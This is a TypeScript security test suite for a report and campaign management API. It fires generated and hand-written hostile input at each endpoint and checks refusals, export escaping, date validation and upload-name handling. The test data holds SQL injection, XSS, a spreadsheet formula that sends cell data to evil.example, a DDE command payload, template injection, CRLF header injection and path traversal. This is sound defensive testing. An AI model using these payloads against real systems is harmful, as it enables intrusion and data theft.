import JSZip from 'jszip';
import ExcelJS from 'exceljs';
import type { Response, Test } from 'supertest';
import { ManualClock } from '@app/common';
import { startApi } from '../support/apps';
import { completeSections } from '../support/content';
import { tokenFor } from '../support/demo';
import { createUser, FACTORY_PASSWORD, uniqueName } from '../support/factories';
import { generateCases, type Category, type HostileCase, type OpenApiDocument } from './openapi-cases';
import { errorShapeProblem, rowCounts, sandbox } from './support';

/**
 * Part 3 of issue #9: every endpoint of the OpenAPI document attacked with hostile input (generated),
 * plus hand-written cases on real data (stored as text, escaped in every export, impossible dates).
 * Expected each time: a clear 4xx in the common error shape, nothing stored, the server still healthy.
 */
const BODY_LIMIT = 1024 * 1024;
/**
 * A fixed day inside the working-day calendar (config/calendar): campaigns for 2025 are due on
 * 2026-03-01, so every deadline this file leaves open can be planned by the worker of a later test.
 */
const TODAY = new Date('2026-01-12T10:00:00+08:00');
const CAMPAIGN_YEAR = 2025;
const UPLOAD_LIMIT = 64 * 1024;

const SQL = '\'); DROP TABLE reports; -- " OR 1=1 #';
const HTML =
  '<script>alert(document.cookie)</script><img src=x onerror="alert(1)"><a href="javascript:alert(1)">x</a>';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")';
const TEMPLATE = "{{constructor.constructor('return process')()}} ${7*7} #{7*7}";

interface Tally {
  ran: number;
  byCategory: Map<string, number>;
  codes: Map<string, Set<string>>;
  statuses: Map<number, number>;
  serverErrors: string[];
}
const tally: Tally = {
  ran: 0,
  byCategory: new Map(),
  codes: new Map(),
  statuses: new Map(),
  serverErrors: [],
};
function count(category: string, res: Response, label: string): void {
  tally.ran += 1;
  tally.byCategory.set(category, (tally.byCategory.get(category) ?? 0) + 1);
  tally.statuses.set(res.status, (tally.statuses.get(res.status) ?? 0) + 1);
  const code = res.status >= 400 ? `${res.status} ${res.body?.error ?? '-'}` : String(res.status);
  tally.codes.set(category, (tally.codes.get(category) ?? new Set()).add(code));
  if (res.status >= 500) tally.serverErrors.push(`${label} -> ${res.status} ${JSON.stringify(res.body)}`);
}

/**
 * A holiday schedule's body is a config/calendar data file, checked by the calendar loader after the
 * caller's scope (only a top-level or the region's admin may enter one, and this file's sandbox admin
 * is neither): its body refusals (400 CALENDAR_SCHEDULE_INVALID naming the entry) are covered by
 * test/calendar/entered-holidays with an admin who may enter them.
 */
const HOLIDAY_SCHEDULE_PUTS = [
  'PUT /admin/calendar/national/{year}',
  'PUT /admin/calendar/regions/{region}/{year}',
];
const SCHEDULE_CHECKED_ELSEWHERE: Category[] = [
  'JSON not an object',
  'missing required field',
  'unknown property',
  'server-owned field',
  'prototype pollution',
  'wrong type',
  'over-long string',
  'over-long array',
  'impossible date',
  'control character',
  'deep nesting',
];

describe('hostile input: every endpoint, generated from the OpenAPI document', () => {
  let api: Awaited<ReturnType<typeof startApi>>;
  let sb: Awaited<ReturnType<typeof sandbox>>;
  let doc: OpenApiDocument;
  let reportId: string;
  let campaignId: string;
  let userId: string;
  const boss = () => ({ Authorization: `Bearer ${sb.bossToken}` });

  beforeAll(async () => {
    api = await startApi({
      clock: new ManualClock(TODAY),
      env: {
        LOGIN_THROTTLE_PER_MINUTE: '10000',
        ATTACHMENT_MAX_BYTES: String(UPLOAD_LIMIT),
        ATTACHMENT_DIR: '.local/test-attachments-security',
        BODY_LIMIT: '1mb',
        // The webhook example's host: allow-listed, so saving it asks no DNS server (tests stay on loopback).
        WEBHOOK_ALLOWED_HOSTS: 'qyapi.weixin.qq.com',
      },
    });
    sb = await sandbox(api.http, api.dataSource);
    // Real objects in our own prefecture, so a request wrongly accepted would change something we check.
    reportId = (
      await api
        .http()
        .post('/reports')
        .set(boss())
        .send({ unitId: sb.prefecture.id, reportYear: 2030 })
        .expect(201)
    ).body.id;
    campaignId = (
      await api
        .http()
        .post('/campaigns')
        .set(boss())
        .send({
          title: uniqueName('安全测试通知'),
          body: '请按时报送。',
          reportYear: CAMPAIGN_YEAR,
          targets: { unitIds: [sb.county.id] },
        })
        .expect(201)
    ).body.id;
    userId = (await createUser(api.dataSource, sb.county.id, ['drafter'])).id;
    doc = (await api.http().get('/docs/openapi.json').expect(200)).body;
  });
  afterAll(async () => {
    const byCategory = [...tally.byCategory.entries()]
      .map(([c, n]) => `    ${c}: ${n} (${[...(tally.codes.get(c) ?? [])].sort().join(', ')})`)
      .join('\n');
    const statuses = [...tally.statuses.entries()]
      .sort(([a], [b]) => a - b)
      .map(([s, n]) => `${s}x${n}`)
      .join(' ');
    console.log(
      `hostile input: ${tally.ran} cases ran, ${tally.serverErrors.length} unexpected 5xx\n` +
        `  statuses: ${statuses}\n  by category (answers seen):\n${byCategory}`,
    );
    await api?.app.close();
  });

  const realParam = (path: string, name: string): string => {
    if (name === 'number') return '1';
    if (name === 'role') return 'drafter';
    // A holiday schedule's year and region: valid, so each case is refused for its body.
    if (name === 'year') return '2031';
    if (name === 'region') return '65';
    if (name === 'id') {
      if (path.startsWith('/reports/')) return reportId;
      if (path.startsWith('/campaigns/')) return campaignId;
      if (path.startsWith('/units/')) return sb.county.id;
      if (path.startsWith('/users/')) return userId;
      if (path.startsWith('/notifications/') || path.startsWith('/admin/dead-letters/')) return '1';
    }
    return '00000000-0000-7000-8000-000000000000';
  };

  const run = (c: HostileCase): Test => {
    let req = api.http()[c.method as 'get'](c.url);
    if (c.authorization) req = req.set('Authorization', c.authorization);
    for (const [k, v] of Object.entries(c.headers)) req = req.set(k, v);
    if (c.files) {
      for (const f of c.files) req = req.attach(f.field, f.content, f.filename);
      return req;
    }
    if (c.body === undefined) return req;
    // Bytes go out as they are (superagent would JSON-encode a Buffer sent as application/json).
    return Buffer.isBuffer(c.body)
      ? req.serialize((bytes: unknown) => bytes as string).send(c.body)
      : req.send(c.body);
  };

  it('every public endpoint is one we know; every other one needs a token', () => {
    const open = Object.entries(doc.paths).flatMap(([path, ops]) =>
      Object.entries(ops)
        .filter(([, op]) => !((op as { security?: unknown[] }).security ?? []).length)
        .map(([method]) => `${method.toUpperCase()} ${path}`),
    );
    expect(open.sort()).toEqual(
      [
        'GET /health/live',
        'GET /health/ready',
        'GET /metrics',
        // The public disclosure page and its feeds: published public versions only (docs/campaigns.md).
        'GET /public/reports',
        'GET /public/reports.json',
        'GET /public/reports.rss',
        'GET /public/reports/{id}/public.docx',
        'POST /auth/login',
        'POST /auth/refresh',
      ].sort(),
    );
  });

  it('answers every generated case with the expected 4xx in the common error shape, storing nothing', async () => {
    const cases = generateCases(doc, {
      token: sb.bossToken,
      realParam,
      bodyLimitBytes: BODY_LIMIT,
      uploadLimitBytes: UPLOAD_LIMIT,
      // The schema's example logs in as a demo user: aim at nobody, so no case can lock a real account.
      baseBody: (operation) =>
        operation === 'POST /auth/login'
          ? { username: 'hostile-nobody', password: 'Not-a-password-1' }
          : undefined,
    }).filter(
      (c) =>
        !(HOLIDAY_SCHEDULE_PUTS.includes(c.operation) && SCHEDULE_CHECKED_ELSEWHERE.includes(c.category)),
    );
    const operations = new Set(cases.map((c) => c.operation));
    expect(operations.size).toBeGreaterThanOrEqual(50);
    const before = await rowCounts(api.dataSource);
    const findings: string[] = [];
    // A few at a time: fast on two cores, and nothing here depends on order.
    for (let i = 0; i < cases.length; i += 6) {
      await Promise.all(
        cases.slice(i, i + 6).map(async (c) => {
          const label = `${c.operation} [${c.category}] ${c.what}`;
          const started = Date.now();
          const res = await run(c)
            .timeout(15_000)
            .catch((e: Error) => {
              findings.push(`${label}: ${e.message}`);
              return null;
            });
          if (Date.now() - started > 500) console.log(`slow ${Date.now() - started} ms: ${label}`);
          if (!res) return;
          count(c.category, res, label);
          if (!c.expect.includes(res.status)) {
            findings.push(
              `${label}: ${res.status} (expected ${summarise(c.expect)}) ${JSON.stringify(res.body).slice(0, 200)}`,
            );
            return;
          }
          if (res.status < 400) return;
          const problem = errorShapeProblem(res.status, res.body);
          if (problem)
            findings.push(`${label}: ${res.status} ${problem}: ${JSON.stringify(res.body).slice(0, 200)}`);
          if (res.headers['x-request-id'] !== res.body?.requestId)
            findings.push(`${label}: X-Request-Id header differs from the body's requestId`);
          if (res.headers['x-content-type-options'] !== 'nosniff')
            findings.push(`${label}: no nosniff header`);
          if (
            (c.category === 'unknown property' || c.category === 'server-owned field') &&
            !/should not exist/.test(res.body.message)
          )
            findings.push(`${label}: the message does not name the refused property: ${res.body.message}`);
        }),
      );
    }
    expect(findings).toEqual([]);
    expect(await rowCounts(api.dataSource)).toEqual(before);
    const report = await api.http().get(`/reports/${reportId}`).set(boss()).expect(200);
    expect(report.body).toMatchObject({ state: 'drafting', version: 1, currentRevision: 0 });
    // Still healthy, and the caller's session still works.
    await api.http().get('/health/ready').expect(200);
    await api.http().get('/me').set(boss()).expect(200);
    expect(cases.length).toBeGreaterThan(1000);
    // About 2,000 requests one after another: a minute on a quiet 2-core machine, more on a busy one.
  }, 300_000);

  it('refuses hostile requests that no schema describes', async () => {
    const oneOffs: Array<{ what: string; req: () => Test; expect: number[]; shape: boolean }> = [
      {
        what: 'an unknown route',
        req: () => api.http().get('/reports/x/../../etc/passwd'),
        expect: [404],
        shape: true,
      },
      {
        what: 'a method the path is not served with',
        req: () => api.http().patch(`/reports/${reportId}`).set(boss()),
        expect: [405],
        shape: true,
      },
      { what: 'TRACE', req: () => api.http().trace('/me').set(boss()), expect: [405], shape: true },
      {
        what: 'a 10 kB bearer token',
        req: () =>
          api
            .http()
            .get('/me')
            .set('Authorization', `Bearer ${'a'.repeat(10_000)}`),
        expect: [401],
        shape: true,
      },
      {
        what: 'Basic instead of Bearer',
        req: () =>
          api
            .http()
            .get('/me')
            .set('Authorization', `Basic ${Buffer.from('admin:admin').toString('base64')}`),
        expect: [401],
        shape: true,
      },
      {
        what: 'the token twice',
        req: () =>
          api.http().get('/me').set('Authorization', `Bearer ${sb.bossToken} Bearer ${sb.bossToken}`),
        expect: [401],
        shape: true,
      },
      {
        what: 'headers over 16 kB',
        req: () => api.http().get('/me').set(boss()).set('X-Padding', 'x'.repeat(20_000)),
        expect: [431],
        shape: false,
      },
      {
        what: 'a 20 kB URL',
        req: () =>
          api
            .http()
            .get(`/reports?state=${'a'.repeat(20_000)}`)
            .set(boss()),
        expect: [414, 431],
        shape: false,
      },
      {
        what: 'a hostile X-Request-Id is not echoed',
        req: () => api.http().get('/me').set('X-Request-Id', '<script>alert(1)</script>'),
        expect: [401],
        shape: true,
      },
    ];
    for (const one of oneOffs) {
      const res = await one.req();
      count('no schema', res, one.what);
      expect({ what: one.what, ok: one.expect.includes(res.status), status: res.status }).toMatchObject({
        ok: true,
      });
      if (one.shape)
        expect({ what: one.what, problem: errorShapeProblem(res.status, res.body) }).toEqual({
          what: one.what,
          problem: null,
        });
      expect(res.headers['x-request-id'] ?? '').not.toContain('<');
    }
    await api.http().get('/health/ready').expect(200);
  });

  it('refuses a client setting server-owned fields on real objects, and stores nothing', async () => {
    const attempts: Array<[string, () => Test]> = [
      [
        'a report born accepted',
        () =>
          api
            .http()
            .post('/reports')
            .set(boss())
            .send({ unitId: sb.county.id, reportYear: 2031, state: 'accepted', version: 7 }),
      ],
      [
        'a report authored by someone else',
        () =>
          api
            .http()
            .post('/reports')
            .set(boss())
            .send({ unitId: sb.county.id, reportYear: 2031, createdBy: userId, author: userId }),
      ],
      [
        'a report of another unit via unit',
        () =>
          api
            .http()
            .post('/reports')
            .set(boss())
            .send({ unitId: sb.county.id, reportYear: 2031, unit: { id: sb.demo.unitIds['yn-transport'] } }),
      ],
      [
        'a revision that moves the state',
        () =>
          api
            .http()
            .post(`/reports/${reportId}/revisions`)
            .set(boss())
            .send({ basedOnRevision: 0, sections: { measures: 'x' }, state: 'submitted' }),
      ],
      [
        'a revision with its own number and author',
        () =>
          api
            .http()
            .post(`/reports/${reportId}/revisions`)
            .set(boss())
            .send({ basedOnRevision: 0, sections: { measures: 'x' }, number: 9, author: userId }),
      ],
      [
        'an action that sets the version',
        () =>
          api
            .http()
            .post(`/reports/${reportId}/actions`)
            .set(boss())
            .send({ action: 'submit', expectedVersion: 1, version: 99, toState: 'accepted' }),
      ],
      [
        'a user created active with a hash',
        () =>
          api
            .http()
            .post('/users')
            .set(boss())
            .send({
              unitId: sb.county.id,
              username: uniqueName('own'),
              displayName: 'x',
              password: 'Owned-pass-2025',
              roles: [],
              passwordHash: '$argon2id$x',
              failedLogins: 0,
              lockedUntil: null,
            }),
      ],
      [
        'a role granted by someone else',
        () =>
          api
            .http()
            .post(`/users/${userId}/roles`)
            .set(boss())
            .send({ role: 'unit_leader', grantedBy: userId }),
      ],
      [
        'a unit with its own path',
        () =>
          api
            .http()
            .post('/units')
            .set(boss())
            .send({
              parentId: sb.county.id,
              name: uniqueName('路径'),
              kind: 'department',
              level: 'county',
              path: '/',
              depth: 0,
            }),
      ],
      [
        'a campaign already withdrawn',
        () =>
          api
            .http()
            .post('/campaigns')
            .set(boss())
            .send({
              title: 'x',
              body: 'x',
              reportYear: 2031,
              targets: { unitIds: [sb.county.id] },
              status: 'withdrawn',
              createdBy: userId,
            }),
      ],
      [
        'an extension already granted',
        () =>
          api.http().post(`/campaigns/${campaignId}/extensions`).set(boss()).send({
            requestedDueDate: '2031-03-20',
            reason: 'x',
            status: 'granted',
            grantedDueDate: '2031-12-31',
          }),
      ],
      [
        'nested: a section with a hidden field',
        () =>
          api
            .http()
            .post(`/reports/${reportId}/revisions`)
            .set(boss())
            .send({ basedOnRevision: 0, sections: { measures: 'x', approvedBy: userId } }),
      ],
    ];
    const before = await rowCounts(api.dataSource);
    for (const [what, attempt] of attempts) {
      const res = await attempt();
      count('server-owned field (real objects)', res, what);
      expect({ what, status: res.status, error: res.body.error }).toEqual({
        what,
        status: 400,
        error: 'VALIDATION_FAILED',
      });
      expect(res.body.message).toMatch(/should not exist/);
    }
    expect(await rowCounts(api.dataSource)).toEqual(before);
  });

  it('stores SQL and HTML as text, returns it unchanged, and escapes it in the .docx and the board exports', async () => {
    // A report of our own, saved with payloads in the title, every section, and a review comment.
    const id = (
      await api
        .http()
        .post('/reports')
        .set(boss())
        .send({ unitId: sb.prefecture.id, reportYear: 2029 })
        .expect(201)
    ).body.id as string;
    const complete = completeSections(sb.prefecture.name, 2029);
    const payload = `${SQL}\n${HTML}\n${FORMULA}\n${TEMPLATE}\n\u202Eevil\u202C 😀 \u200B`;
    // The report's text refuses direction overrides too (external QA, stop 53): the rest is stored.
    const textPayload = payload.replace(/[\u202A-\u202E\u2066-\u2069]/g, '');
    const sections = Object.fromEntries(
      Object.entries(complete).map(([k, v]) => [k, v ? `${v}\n${textPayload}` : textPayload]),
    );
    // A line break in a title is refused now (one-line texts, stop 48); the quote and the header
    // name still try the download's file name.
    const crlf = await api
      .http()
      .post(`/reports/${id}/revisions`)
      .set(boss())
      .send({ basedOnRevision: 0, title: `${sb.prefecture.name}报告\r\nX-Injected: 1`, sections });
    count('stored as text', crlf, 'a title with CR LF');
    expect(crlf.status).toBe(400);
    const title = `${sb.prefecture.name}2029年报告"; filename=evil.exe X-Injected: 1 ${HTML}`.slice(0, 200);
    const saved = await api
      .http()
      .post(`/reports/${id}/revisions`)
      .set(boss())
      .send({ basedOnRevision: 0, title, sections });
    count('stored as text', saved, 'save payloads');
    expect(saved.status).toBe(201);
    const read = await api.http().get(`/reports/${id}`).set(boss()).expect(200);
    count('stored as text', read, 'read payloads');
    expect(read.headers['content-type']).toMatch(/^application\/json/);
    expect(read.body.sections).toEqual(sections);
    expect(read.body.title).toBe(title);
    // The SQL was data: the table is still there and holds the text verbatim.
    const [row] = await api.dataSource.query(
      'SELECT measures FROM report_revisions WHERE report_id = ? AND number = 1',
      [id],
    );
    expect(row.measures).toBe(sections.measures);

    // A review comment with the same payloads (the boss holds every role of the prefecture).
    const submitted = await api
      .http()
      .post(`/reports/${id}/actions`)
      .set(boss())
      .send({ action: 'submit', expectedVersion: read.body.version });
    count('stored as text', submitted, 'submit');
    expect(submitted.status).toBe(200);
    // A direction override in a comment another office reads is refused (stop 48); the rest of the
    // payload is stored as text.
    const reversed = await api
      .http()
      .post(`/reports/${id}/actions`)
      .set(boss())
      .send({ action: 'return', expectedVersion: submitted.body.report.version, comment: payload });
    count('stored as text', reversed, 'a comment with a direction override');
    expect(reversed.status).toBe(400);
    const comment = payload.replace(/[\u202A-\u202E\u2066-\u2069]/g, '');
    const returned = await api
      .http()
      .post(`/reports/${id}/actions`)
      .set(boss())
      .send({ action: 'return', expectedVersion: submitted.body.report.version, comment });
    count('stored as text', returned, 'return with a hostile comment');
    expect(returned.status).toBe(200);
    const history = await api.http().get(`/reports/${id}/history`).set(boss()).expect(200);
    count('stored as text', history, 'history');
    expect(history.body.events.find((e: { action: string }) => e.action === 'return').comment).toBe(comment);
    expect(history.body.chain.verified).toBe(true);

    if (doc.paths['/reports/{id}/export.docx']) {
      for (const version of ['internal', 'public']) {
        const docx = await binary(
          api.http().get(`/reports/${id}/export.docx?version=${version}`).set(boss()),
        );
        count('escaped in exports', docx, `export.docx ${version}`);
        expect(docx.status).toBe(200);
        // The name is percent-encoded: no quote, CR or LF reaches the header.
        expect(docx.headers['content-disposition']).toMatch(
          /^attachment; filename\*=UTF-8''[A-Za-z0-9%._~!'()*-]+$/,
        );
        expect(docx.headers['x-injected']).toBeUndefined();
        const xml = await (
          await JSZip.loadAsync(docx.body as Buffer)
        )
          .file('word/document.xml')!
          .async('string');
        expect(xml).toContain('&lt;script&gt;alert(document.cookie)&lt;/script&gt;');
        expect(xml).not.toMatch(/<script|<img|onerror="/);
        expect(xml).toContain('DROP TABLE reports');
        // eslint-disable-next-line no-control-regex -- XML 1.0 forbids these: Word would refuse the file
        expect(xml).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F]/);
      }
    }

    // The board exports: a target unit and a holder named like spreadsheet formulas and HTML.
    const evilUnit = await api
      .http()
      .post('/units')
      .set(boss())
      .send({
        parentId: sb.county.id,
        name: `${FORMULA}`.slice(0, 100),
        kind: 'department',
        level: 'county',
      });
    count('escaped in exports', evilUnit, 'a unit named like a formula');
    expect(evilUnit.status).toBe(201);
    await createUser(api.dataSource, evilUnit.body.id, ['drafter'], uniqueName('formula')).then((u) =>
      api.dataSource.query('UPDATE users SET display_name = ? WHERE id = ?', [
        `@SUM(1+1)*cmd|' /C calc'!A0 ${HTML}`.slice(0, 100),
        u.id,
      ]),
    );
    const issued = await api
      .http()
      .post('/campaigns')
      .set(boss())
      .send({
        title: `${HTML}`.slice(0, 200),
        body: comment,
        reportYear: CAMPAIGN_YEAR,
        targets: { unitIds: [evilUnit.body.id] },
      });
    count('escaped in exports', issued, 'a campaign titled with HTML');
    expect(issued.status).toBe(201);
    const csv = await binary(api.http().get(`/campaigns/${issued.body.id}/board.csv`).set(boss()));
    count('escaped in exports', csv, 'board.csv');
    expect(csv.status).toBe(200);
    const text = (csv.body as Buffer).toString('utf8');
    const cells = text.split(/\r\n/).flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/));
    const unquoted = cells.map((c) => (c.startsWith('"') ? c.slice(1, -1).replace(/""/g, '"') : c));
    expect(unquoted.filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
    expect(unquoted).toContain(`'${FORMULA}`);
    expect(csv.headers['content-disposition']).not.toMatch(/[\r\n]/);
    const xlsx = await binary(api.http().get(`/campaigns/${issued.body.id}/board.xlsx`).set(boss()));
    count('escaped in exports', xlsx, 'board.xlsx');
    expect(xlsx.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.body as ArrayBuffer);
    const formulas: string[] = [];
    workbook.eachSheet((sheet) =>
      sheet.eachRow((r) =>
        r.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula || (cell.value as { formula?: string })?.formula)
            formulas.push(cell.address);
        }),
      ),
    );
    expect(formulas).toEqual([]);
    const zipped = await JSZip.loadAsync(xlsx.body as Buffer);
    const sheetXml = await Promise.all(
      Object.keys(zipped.files)
        .filter((n) => n.endsWith('.xml'))
        .map((n) => zipped.file(n)!.async('string')),
    );
    expect(sheetXml.join('')).not.toMatch(/<script|<img/);
    // The notice (with the payloads) comes back as JSON text.
    const notice = await api.http().get(`/campaigns/${issued.body.id}`).set(boss()).expect(200);
    expect(notice.body.notice.body).toBe(comment);
  });

  it('refuses impossible dates where the workflow and the campaigns read them, changing nothing', async () => {
    // A report at party approval: the meeting date must be a real day.
    const id = (
      await api
        .http()
        .post('/reports')
        .set(boss())
        .send({ unitId: sb.prefecture.id, reportYear: 2028 })
        .expect(201)
    ).body.id as string;
    await api
      .http()
      .post(`/reports/${id}/revisions`)
      .set(boss())
      .send({ basedOnRevision: 0, sections: completeSections(sb.prefecture.name, 2028) })
      .expect(201);
    const act = async (body: object) => {
      const current = await api.http().get(`/reports/${id}`).set(boss()).expect(200);
      return api
        .http()
        .post(`/reports/${id}/actions`)
        .set(boss())
        .send({ expectedVersion: current.body.version, ...body });
    };
    expect((await act({ action: 'submit' })).status).toBe(200);
    expect((await act({ action: 'approve' })).status).toBe(200);
    expect((await act({ action: 'approve', fields: { opinion: '同意。' } })).status).toBe(200);
    const before = await api.http().get(`/reports/${id}`).set(boss()).expect(200);
    expect(before.body.state).toBe('party_approval');
    for (const meetingDate of [
      '2023-02-30',
      '2023-02-29',
      '2024-13-01',
      '2024-00-10',
      '2024-1-5',
      '20240105',
      '2024-01-05T10:00',
    ]) {
      const res = await act({
        action: 'approve',
        fields: { meetingBody: '党组会议', minutesNumber: '纪要〔2024〕1号', meetingDate },
      });
      count('impossible date (real report)', res, meetingDate);
      expect({ meetingDate, ok: [400, 422].includes(res.status), status: res.status }).toMatchObject({
        ok: true,
      });
      expect(errorShapeProblem(res.status, res.body)).toBeNull();
    }
    const after = await api.http().get(`/reports/${id}`).set(boss()).expect(200);
    expect({ state: after.body.state, version: after.body.version }).toEqual({
      state: 'party_approval',
      version: before.body.version,
    });

    // Campaign dates: the due date, the issue date, the extension asked for.
    const county = { Authorization: `Bearer ${await countyDrafterToken()}` };
    for (const [what, req] of [
      [
        'dueDate 2030-02-30',
        () =>
          api
            .http()
            .post('/campaigns')
            .set(boss())
            .send({
              title: 'x',
              body: 'x',
              reportYear: 2030,
              dueDate: '2030-02-30',
              targets: { unitIds: [sb.county.id] },
            }),
      ],
      [
        'issuedOn 2030-04-31',
        () =>
          api
            .http()
            .post('/campaigns')
            .set(boss())
            .send({
              title: 'x',
              body: 'x',
              reportYear: 2030,
              issuedOn: '2030-04-31',
              targets: { unitIds: [sb.county.id] },
            }),
      ],
      [
        'disclosureDate 2031-02-29',
        () =>
          api
            .http()
            .post('/campaigns')
            .set(boss())
            .send({
              title: 'x',
              body: 'x',
              reportYear: 2030,
              disclosureDate: '2031-02-29',
              targets: { unitIds: [sb.county.id] },
            }),
      ],
      [
        'requestedDueDate 2031-02-29',
        () =>
          api
            .http()
            .post(`/campaigns/${campaignId}/extensions`)
            .set(county)
            .send({ requestedDueDate: '2031-02-29', reason: '会议推迟' }),
      ],
      [
        'requestedDueDate 31/03/2031',
        () =>
          api
            .http()
            .post(`/campaigns/${campaignId}/extensions`)
            .set(county)
            .send({ requestedDueDate: '31/03/2031', reason: '会议推迟' }),
      ],
    ] as Array<[string, () => Test]>) {
      const res = await req();
      count('impossible date (real campaign)', res, what);
      expect({ what, status: res.status }).toEqual({ what, status: 400 });
      expect(res.body.message).toMatch(/real date written YYYY-MM-DD/);
    }
  });

  it('keeps an uploaded file name from reaching a path or a header', async () => {
    const id = (
      await api
        .http()
        .post('/reports')
        .set(boss())
        .send({ unitId: sb.prefecture.id, reportYear: 2027 })
        .expect(201)
    ).body.id as string;
    const pdf = Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(100, 0x20)]);
    const up = await api
      .http()
      .post(`/reports/${id}/attachments`)
      .set(boss())
      .attach('file', pdf, '../../../etc/passwd";\r\nX-Evil: 1 <script>.pdf'); // outside-repo-ok: path traversal on purpose
    count('hostile upload (real report)', up, 'a traversal file name');
    expect(up.status).toBe(201);
    expect(up.body.filename).not.toMatch(/[/\\\r\n]/);
    const [stored] = await api.dataSource.query('SELECT storage_key FROM attachments WHERE id = ?', [
      up.body.id,
    ]);
    expect(stored.storage_key).toBe(`${id}/${up.body.id}`);
    const file = await binary(api.http().get(`/reports/${id}/attachments/${up.body.id}/content`).set(boss()));
    count('hostile upload (real report)', file, 'download it');
    expect(file.status).toBe(200);
    expect(file.headers['x-evil']).toBeUndefined();
    expect(file.headers['x-content-type-options']).toBe('nosniff');
    expect(file.headers['content-type']).toBe('application/pdf');
    expect(file.headers['content-disposition']).toMatch(
      /^attachment; filename\*=UTF-8''[A-Za-z0-9%._~!'()*-]+$/,
    );
  });

  it('answers pathological (valid) text in linear time: no regular expression backtracks for seconds', async () => {
    // Each of these once held the event loop (and so every other user) for 10-50 s.
    const texts: Record<string, string> = {
      'a run of digits': '1'.repeat(99_000),
      'repeated "[bookmark:"': '[bookmark:'.repeat(9_900),
      'digits and dots': '1.'.repeat(49_000),
      'percent-like': '12.5 余 '.repeat(12_000),
    };
    const id = (
      await api
        .http()
        .post('/reports')
        .set(boss())
        .send({ unitId: sb.prefecture.id, reportYear: 2026 })
        .expect(201)
    ).body.id as string;
    let revision = 0;
    for (const [what, text] of Object.entries(texts)) {
      const started = Date.now();
      // Every save runs the completeness check (figures, headings) over the sections.
      const saved = await api
        .http()
        .post(`/reports/${id}/revisions`)
        .set(boss())
        .send({ basedOnRevision: revision, sections: { measures: text, shortcomings: text } });
      count('pathological text', saved, what);
      expect({ what, status: saved.status }).toEqual({ what, status: 201 });
      revision = saved.body.number;
      if (doc.paths['/content/import']) {
        const imported = await api
          .http()
          .post('/content/import')
          .set(boss())
          .send({ text: `${text}\n${text}` });
        count('pathological text', imported, `${what} (import)`);
        expect({ what, status: imported.status }).toEqual({ what, status: 200 });
      }
      expect({ what, ms: Date.now() - started < 15_000 }).toEqual({ what, ms: true });
    }
  });

  async function countyDrafterToken(): Promise<string> {
    const user = await createUser(api.dataSource, sb.county.id, ['drafter']);
    return tokenFor(api.http, user.username, FACTORY_PASSWORD);
  }
});

function summarise(statuses: number[]): string {
  return statuses.length > 20 ? '4xx' : statuses.join('/');
}

/** Reads a download as raw bytes. */
function binary(req: Test): Test {
  return req.buffer(true).parse((res, done) => {
    const chunks: Buffer[] = [];
    res.on('data', (c: Buffer) => chunks.push(c));
    res.on('end', () => done(null, Buffer.concat(chunks)));
  });
}

export type { Category };
